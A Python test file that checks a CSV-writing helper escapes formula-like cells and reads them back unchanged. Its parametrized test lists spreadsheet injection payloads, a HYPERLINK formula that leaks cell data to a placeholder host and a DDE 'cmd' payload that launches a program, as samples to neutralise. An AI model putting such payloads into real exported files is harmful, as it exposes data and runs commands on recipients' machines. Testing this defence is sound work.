"""No cell of a CSV file of ours is a formula, and every cell is read back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mie.core.csv_cells import plain_cell, safe_cell, safe_row

starts = st.sampled_from(["", "=", "+", "-", "@", "'", "''=", "\t=", "-1", "＝"])
texts = st.tuples(starts, st.text(st.characters(exclude_categories=("Cs",)), max_size=20)).map("".join)


@given(texts)
def test_a_cell_is_read_back(text):
    assert plain_cell(safe_cell(text)) == text


@given(texts)
def test_no_text_begins_a_formula(text):
    cell = safe_cell(text)
    if cell[:1] in ("=", "@", "+", "-", "\t", "\r"):
        float(cell)  # but a number


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_formulas_are_text(cell):
    line = io.StringIO()
    csv.writer(line).writerow(safe_row(["a", cell, 3, -0.5]))
    assert next(csv.reader(io.StringIO(line.getvalue()))) == ["a", f"'{cell}", "3", "-0.5"]
